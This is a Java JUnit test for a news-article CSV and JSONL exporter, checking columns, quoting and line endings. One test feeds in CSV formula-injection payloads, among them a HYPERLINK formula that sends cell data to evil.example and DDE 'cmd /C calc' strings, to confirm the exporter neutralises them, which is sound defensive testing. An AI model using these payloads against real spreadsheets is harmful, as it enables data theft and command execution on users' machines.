package newswatch.search.export;

import static java.nio.charset.StandardCharsets.UTF_8;
import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.io.StringReader;
import java.net.URI;
import java.time.Instant;
import java.util.List;
import newswatch.events.Article;
import newswatch.events.ArticleId;
import newswatch.events.ArticleTagged;
import newswatch.events.DocumentVersion;
import newswatch.events.FeedId;
import newswatch.events.Origin;
import newswatch.events.StoryId;
import newswatch.events.Tag;
import newswatch.events.TopicId;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVRecord;
import org.jspecify.annotations.Nullable;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class CsvLineTest {
  private static final Instant SEEN = Instant.parse("2026-03-10T12:00:00Z");
  private static final URI URL = URI.create("https://news.example/one");
  private static final FeedId FEED = FeedId.ofAddress(URI.create("https://news.example/feed"));

  @Test
  void lineHasACellForEveryName() throws IOException {
    CSVRecord read = readBack(article("Talks resume", "Two guards met.", "Ana Writer"));
    assertThat(read.toMap())
        .containsEntry("id", ArticleId.ofAddress(URL).value())
        .containsEntry("url", URL.toString())
        .containsEntry("title", "Talks resume")
        .containsEntry("summary", "")
        .containsEntry("body", "Two guards met.")
        .containsEntry("author", "Ana Writer")
        .containsEntry("source", "Example Post")
        .containsEntry("language", "en")
        .containsEntry("publishedAt", "")
        .containsEntry("firstSeenAt", "2026-03-10T12:00:00Z")
        .containsEntry("fetchedAt", "2026-03-10T12:00:00Z")
        .containsEntry("feeds", FEED.value())
        .containsEntry("collections", "Asia|Europe")
        .containsEntry("revision", "2")
        .containsEntry("topics", "economy|sea")
        .containsEntry("topicScores", "0.75|0.5")
        .containsEntry("story", StoryId.ofFirst(ArticleId.ofAddress(URL)).value())
        .hasSize(17);
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "Talks, \"resumed\"",
        "one\ntwo\r\nthree",
        " led and followed by blanks ",
        "\"",
        "#hash",
        "南海 Hội nghị 👋",
        "ends with a break\n"
      })
  void textComesBackAsItWas(String text) throws IOException {
    CSVRecord read = readBack(article("t", text, text));
    assertThat(read.get("body")).isEqualTo(text);
    assertThat(read.get("author")).isEqualTo(text);
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "=HYPERLINK(\"http://evil.example?x=\"&A1,\"Read more\")",
        "+1+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        "＝1+1",
        "=1\",=2,\"=3"
      })
  void nothingBeginsAsAFormula(String text) throws IOException {
    CSVRecord read = readBack(article(text, text, text));
    assertThat(read.get("title")).isEqualTo("'" + text);
    assertThat(read.get("body")).isEqualTo("'" + text);
    assertThat(read.get("author")).isEqualTo("'" + text);
    assertThat(read.size()).isEqualTo(17);
  }

  @Test
  void linesEndAsTheRfcHasIt() {
    assertThat(CsvLine.names()).startsWith("id,url,title,").endsWith(",topicScores,story\r\n");
    assertThat(CsvLine.of(article("t", "b", null))).endsWith("\r\n");
  }

  @Test
  void jsonLineHoldsNoBreakButItsEnd() {
    String line =
        new String(ExportFormat.JSONL.line(article("t", "one\ntwo\r\nthree", null)), UTF_8);
    assertThat(line).endsWith("}\n").containsOnlyOnce("\n").doesNotContain("\r");
  }

  private static CSVRecord readBack(ArticleTagged article) throws IOException {
    String file = CsvLine.names() + CsvLine.of(article);
    List<CSVRecord> read =
        CSVFormat.RFC4180.builder().setHeader().get().parse(new StringReader(file)).getRecords();
    assertThat(read).hasSize(1);
    return read.getFirst();
  }

  private static ArticleTagged article(String title, String body, @Nullable String author) {
    ArticleId id = ArticleId.ofAddress(URL);
    return new ArticleTagged(
        new Article(id, URL, title, null, body, false, author, "Example Post", "en", null),
        List.of(FEED),
        List.of("Asia", "Europe"),
        Origin.LIVE,
        SEEN,
        SEEN,
        2,
        DocumentVersion.of(2, 1),
        List.of(
            new Tag(new TopicId("economy"), 1, 0.75, List.of()),
            new Tag(new TopicId("sea"), 1, 0.5, List.of())),
        StoryId.ofFirst(id));
  }
}
